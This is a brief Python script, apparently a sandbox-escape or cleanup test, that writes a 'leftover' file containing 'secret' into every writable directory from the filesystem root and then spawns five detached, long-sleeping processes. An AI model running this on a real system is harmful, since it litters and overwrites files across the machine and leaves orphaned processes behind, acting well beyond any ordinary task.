import os
import time

for folder, _, _ in os.walk("/", onerror=lambda error: None):
    if folder.startswith(("/proc", "/usr", "/lib")):
        continue
    try:
        with open(os.path.join(folder, "leftover"), "w") as file:
            file.write("secret")
    except OSError:
        pass
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        time.sleep(1000)
